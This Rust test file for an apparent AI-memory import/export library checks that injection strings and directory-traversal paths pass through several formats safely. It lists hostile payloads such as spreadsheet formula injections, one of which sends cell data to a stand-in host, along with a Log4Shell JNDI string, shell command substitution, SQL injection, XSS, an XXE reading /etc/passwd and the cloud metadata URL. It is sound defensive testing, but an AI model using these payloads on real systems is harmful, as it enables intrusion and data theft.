//! Strings and paths that were made to do harm, through every format that brings them in.

use grainstore::codec::{Map, Profile, Value};
use grainstore::grain::{Grain, Status, Type};
use grainstore::interchange::provider::Provider;
use grainstore::interchange::{Entry, Format, ImportFile, ReadOptions, Record, WriteOptions};

use super::foreign::{codes, corpus, json, text_of};
use crate::whole::{Import, aimem, omi, pam};

/// What spreadsheets run, what terminals obey, and what breaks out of markup and queries.
const INJECTIONS: &[&str] = &[
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-1+cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\"=1+1\"",
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "a\",\"=1+1",
    "a\r\nConversation,Time,Author,Message\r\nb",
    "\u{1b}[2J\u{1b}[1;1H",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;http://x.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;ZXZpbA==\u{7}",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{9b}31m",
    "\u{90}x\u{9c}",
    "\u{8}\u{8}\u{8}\u{8}overwritten",
    "safe\rEVIL",
    "a\u{0}b",
    "\u{7f}\u{80}\u{9f}",
    "\u{202e}gpj.exe",
    "\u{2066}a\u{2069}\u{2067}b",
    "\u{feff}bom",
    "\u{200b}\u{200d}\u{2060}",
    "\u{2028}line\u{2029}paragraph\u{85}next",
    "%s%s%s%n%x%d",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "$(touch /tmp/x)`touch /tmp/x`;touch /tmp/x|touch /tmp/x",
    "'; DROP TABLE grains; --",
    "<script>alert(1)</script>",
    "]]><!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "__proto__",
    "\\u0000\\ud800",
    "{\"a\": 1}",
    "\u{1f600}\u{1f1e9}\u{1f1ea}\u{200d}",
    "e\u{301}\u{301}\u{301}\u{301}",
    "ﷺﷺﷺ",
    "\u{fffe}\u{ffff}\u{10ffff}",
    "....//....//etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "mg:sha256:0000000000000000000000000000000000000000000000000000000000000000",
];

fn strings() -> Vec<String> {
    INJECTIONS.iter().map(|text| (*text).to_owned()).collect()
}

#[test]
#[ignore = "needs corpora"]
fn the_big_list_of_naughty_strings_goes_through_every_format() {
    let text = std::fs::read_to_string(corpus("vectors/blns/blns.json")).unwrap();
    let list = Value::from_json(&text).unwrap();
    let all: Vec<String> = list.texts().map(str::to_owned).collect();
    assert!(all.len() > 500);
    through_a_bundle(all.clone());
    through_omi(all.clone());
    through_a_memory_store(&all);
    out_of_what_providers_export(all);
}

fn entries(records: Vec<Record>) -> Vec<Entry> {
    let entries = records
        .into_iter()
        .map(|record| (record.grain, Status::default()));
    entries.collect()
}

fn number(n: usize) -> String {
    format!("n{n}")
}

#[test]
fn every_harmful_string_goes_through_a_bundle_as_it_is() {
    through_a_bundle(strings());
}

fn through_a_bundle(strings: Vec<String>) {
    let mut bundle = super::aimem::sample();
    let chunks = strings.into_iter().enumerate().map(|(n, text)| {
        let mut chunk = Map::new();
        chunk.insert("id", format!("urn:aimem:test:{n}"));
        chunk.insert("memory_type", "episodic");
        chunk.insert("created_at", "2026-04-01T09:30:00Z");
        let short: String = text.chars().take(64).collect();
        if !short.is_empty() {
            chunk.insert("tags", vec![Value::from(short)]);
        }
        chunk.insert("x_vendor", Map::from_iter([(text.clone(), text.clone())]));
        chunk.insert("content", if text.is_empty() { "-".into() } else { text });
        Value::Map(chunk)
    });
    bundle.insert("chunks", chunks.collect::<Vec<_>>());
    for name in ["edges", "chunk_entities"] {
        bundle.insert(name, Vec::<Value>::new());
    }
    super::aimem::seal(&mut bundle);
    let import = aimem::read(text_of(&bundle).as_bytes(), Profile::Extended).unwrap();
    // What is in a grain raises no sensitivity by a foreign tag.
    let mut out = Vec::new();
    let options = WriteOptions::default();
    aimem::write(&mut out, &entries(import.records), &options).unwrap();
    assert_eq!(json(&String::from_utf8(out).unwrap()), bundle);
}

#[test]
fn every_harmful_string_goes_through_omi_as_it_is() {
    through_omi(strings());
}

fn through_omi(strings: Vec<String>) {
    let mut file = super::omi::sample();
    // The schema has no relation to nothing; an export keeps one in the extension.
    let strings = strings.into_iter().filter(|text| !text.is_empty());
    let records = strings.enumerate().map(|(n, text)| {
        let mut record = Map::new();
        record.insert("id", format!("{n} {text}"));
        record.insert("created", "2026-04-01T09:30:00Z");
        record.insert("type", format!("x{text}"));
        record.insert("subject", Map::from_iter([("id", format!("s{text}"))]));
        record.insert("tags", vec![Value::from(text.clone())]);
        record.insert(
            "relations",
            vec![Value::Map(Map::from_iter([
                ("type", text.clone()),
                ("target", text.clone()),
            ]))],
        );
        record.insert("ext", Map::from_iter([("com.example", text.clone())]));
        record.insert(format!("x_{text}"), text.clone());
        record.insert("content", text);
        Value::Map(record)
    });
    file.insert("memories", records.collect::<Vec<_>>());
    let read = omi::read(text_of(&file).as_bytes(), &ReadOptions::default()).unwrap();
    let mut out = Vec::new();
    let options = WriteOptions::default();
    omi::write(&mut out, &entries(read.records), &options).unwrap();
    assert_eq!(json(&String::from_utf8(out).unwrap()), file);
}

#[test]
fn every_harmful_string_goes_through_a_memory_store() {
    through_a_memory_store(&strings());
}

fn through_a_memory_store(strings: &[String]) {
    let memories = strings.iter().enumerate().map(|(n, text)| {
        let content = format!("x {text}");
        let mut memory = Map::new();
        memory.insert("id", format!("{n} {text}"));
        memory.insert("type", "custom");
        memory.insert("custom_type", format!("x{text}"));
        memory.insert("content_hash", super::exports::any::pam_hash(&content));
        memory.insert("content", content);
        memory.insert(
            "temporal",
            Map::from_iter([("created_at", "2026-01-01T00:00:00Z")]),
        );
        memory.insert("provenance", Map::from_iter([("platform", "local")]));
        memory.insert(
            "metadata",
            Map::from_iter([(format!("x_{text}"), text.clone())]),
        );
        Value::Map(memory)
    });
    let mut store =
        json(r#"{"schema": "portable-ai-memory", "schema_version": "1.0", "owner": {"id": "o"}}"#);
    store.insert("memories", memories.collect::<Vec<_>>());
    let import = pam::read_bytes(text_of(&store).as_bytes(), &ReadOptions::default());
    let entries = entries(import.unwrap().records);
    let document = pam::Document::new(&entries, &WriteOptions::default(), true).unwrap();
    let out = document.store.as_map().unwrap();
    let member = |map: &Map, name: &str| {
        let memories = map.get("memories").and_then(Value::as_array).unwrap();
        let values = memories
            .iter()
            .map(|it| it.as_map().unwrap().get(name).cloned());
        values.collect::<Vec<_>>()
    };
    for name in ["id", "custom_type", "content", "metadata"] {
        assert_eq!(member(out, name), member(&store, name), "{name}");
    }
}

#[test]
fn every_harmful_string_comes_out_of_what_providers_export() {
    out_of_what_providers_export(strings());
}

fn out_of_what_providers_export(strings: Vec<String>) {
    let said = |records: &[Record]| -> Vec<Value> {
        let events = records.iter().filter(|it| it.grain.type_() == Type::Event);
        let text = |grain: &Grain| {
            let record = pam::residual(grain).unwrap();
            let content = record.as_map().unwrap().get("content").unwrap().clone();
            content.as_map().unwrap().get("text").unwrap().clone()
        };
        events.map(|record| text(&record.grain)).collect()
    };
    let read = |provider, text: &str| {
        let format = Some(Format::Provider(provider));
        let reading = ImportFile::of_bytes(text.as_bytes(), format, &ReadOptions::default());
        let reading = reading.unwrap();
        assert!(reading.errors.is_empty(), "{:?}", reading.errors);
        reading.records.into_vec().unwrap()
    };
    let strings: Vec<String> = strings
        .into_iter()
        .filter(|text| !text.trim().is_empty())
        .collect();
    let wanted = |texts: &[String]| {
        texts
            .iter()
            .map(|text| Value::from(text.as_str()))
            .collect::<Vec<_>>()
    };
    // Claude: one message each, in the order of the list.
    let messages = strings.iter().enumerate().map(|(n, text)| {
        let mut message = Map::new();
        message.insert("uuid", number(n));
        message.insert("sender", "human");
        message.insert("text", text.as_str());
        message.insert("created_at", "2026-01-01T00:00:00Z");
        Value::Map(message)
    });
    let mut talk = json(r#"{"uuid": "c", "created_at": "2026-01-01T00:00:00Z"}"#);
    talk.insert("name", strings.concat());
    talk.insert("chat_messages", messages.collect::<Vec<_>>());
    let export = Value::Array(vec![Value::Map(talk)]).to_json();
    assert_eq!(said(&read(Provider::Claude, &export)), wanted(&strings));
    // Copilot: a table, in which every string is quoted.
    let mut table = "Conversation,Time,Author,Message\r\n".to_owned();
    for (n, text) in strings.iter().enumerate() {
        let quoted = text.replace('"', "\"\"");
        let (minute, second) = (n / 60, n % 60);
        table.push_str(&format!(
            "\"{quoted}\",2026-01-01T00:{minute:02}:{second:02},Human,\"x{quoted}\"\r\n"
        ));
    }
    let marked: Vec<String> = strings.iter().map(|text| format!("x{text}")).collect();
    let mut found: Vec<String> = said(&read(Provider::Copilot, &table))
        .iter()
        .map(|value| value.as_text().unwrap().to_owned())
        .collect();
    let mut expected = marked;
    found.sort();
    expected.sort();
    assert_eq!(found, expected);
}

/// Ways out of a directory, and names that are something else somewhere.
#[rustfmt::skip]
const PATHS: &[&str] = &[
    "", "/", ".", "..", "...", "../x", "a/../b", "a/..", "a/./b", "./a", "a//b", "a/", "/a",
    "//host/share", "\\\\host\\share\\x", "..\\x", "a\\b", "C:\\x", "C:/x", "c:x", "~/x",
    "$HOME/x", "%2e%2e/x", "%2e%2e%2fx", "..%2fx", "..%5cx", "%252e%252e/x", "a\0b", "a\nb",
    "a b", "a\u{202e}b", "\u{ff0e}\u{ff0e}/x", "\u{2024}\u{2024}/x", "a\u{2215}b", "é.json",
    "e\u{301}.json", "a.", "a./b", "a/b.", "....//x", ".../x", "x:stream", "x::$DATA", "a*b",
    "a?b", "|ls", "-\0", "a;b", "a'b", "a\"b", "<x>", "\u{feff}a", "a\tb", "a\r", " a", "a ",
    "a/ /b", "conversations/../../x", "\u{200b}../x", "..\u{200b}/x", "\u{0}../x", "..;/x",
    "..\u{c0}\u{af}x", "\\\\?\\C:\\x", "\\\\.\\pipe\\x", "//?/C:/x", "\u{5c}x", "a#b", "a&b",
    "a=b", "a@b", "a+b", "a,b", "a(b)", "a[b]", "a{b}", "a^b", "a`b", "a!b", "a%b", "a:b",
];

fn hostile_paths() -> Vec<String> {
    let mut paths: Vec<String> = PATHS.iter().map(|path| (*path).to_owned()).collect();
    for device in [
        "CON", "PRN", "AUX", "NUL", "COM0", "COM1", "COM9", "LPT0", "LPT1", "LPT9",
    ] {
        for path in [
            device.to_owned(),
            device.to_lowercase(),
            format!("{device}.json"),
            format!("x/{device}.txt"),
        ] {
            paths.push(path);
        }
    }
    for scheme in [
        "file", "http", "https", "ftp", "data", "jar", "smb", "gopher",
    ] {
        paths.push(format!("{scheme}://127.0.0.1/x"));
    }
    paths.push("a".repeat(256));
    paths.push("../".repeat(100) + "etc/passwd");
    paths
}

#[test]
fn no_path_leads_out_of_a_memory_store() {
    let folder = tempfile::tempdir().unwrap();
    let inside = folder.path().join("store");
    std::fs::create_dir(&inside).unwrap();
    // What every way out would find, if it were one.
    let talk = r#"{"schema": "portable-ai-memory-conversation", "schema_version": "1.0", "id": "c",
        "provider": {"name": "local"}, "temporal": {"created_at": "2026-01-01T00:00:00Z"},
        "messages": [{"id": "m", "role": "user", "created_at": "2026-01-01T00:00:00Z",
        "content": {"type": "text", "text": "secret"}}]}"#;
    std::fs::write(folder.path().join("x"), talk).unwrap();
    std::fs::write(inside.join("good.json"), talk).unwrap();
    let read = |reference: &str| {
        let mut storage = Map::from_iter([("type", "file")]);
        storage.insert("ref", reference);
        let mut entry = json(
            r#"{"id": "c", "platform": "local",
            "temporal": {"created_at": "2026-01-01T00:00:00Z"}}"#,
        );
        entry.insert("storage", storage);
        let mut store = json(
            r#"{"schema": "portable-ai-memory", "schema_version": "1.0", "owner": {"id": "o"},
            "memories": []}"#,
        );
        store.insert("conversations_index", vec![Value::Map(entry)]);
        std::fs::write(inside.join(pam::STORE), text_of(&store)).unwrap();
        pam::read(&inside, &ReadOptions::default())
    };
    let events = |import: &Import| {
        let events = import.records.iter();
        events.filter(|it| it.grain.type_() == Type::Event).count()
    };
    assert_eq!(events(&read("good.json").unwrap()), 1);
    let paths = hostile_paths();
    println!("{} hostile paths", paths.len());
    assert!(paths.len() >= 120);
    for path in &paths {
        match read(path) {
            Ok(import) => {
                assert_eq!(events(&import), 0, "{path:?}");
                assert_eq!(import.codes(), ["PAM_STORAGE_REF"], "{path:?}");
            }
            // An empty reference is not even one.
            Err(errors) => assert_eq!((codes(&errors), path.as_str()), (vec!["PAM_SCHEMA"], "")),
        }
    }
    // A link may point anywhere.
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(folder.path().join("x"), inside.join("link.json")).unwrap();
        std::os::unix::fs::symlink(folder.path(), inside.join("up")).unwrap();
        for path in ["link.json", "up/x"] {
            let import = read(path).unwrap();
            assert_eq!(events(&import), 0, "{path}");
            assert_eq!(import.codes(), ["PAM_STORAGE_REF"], "{path}");
        }
    }
}
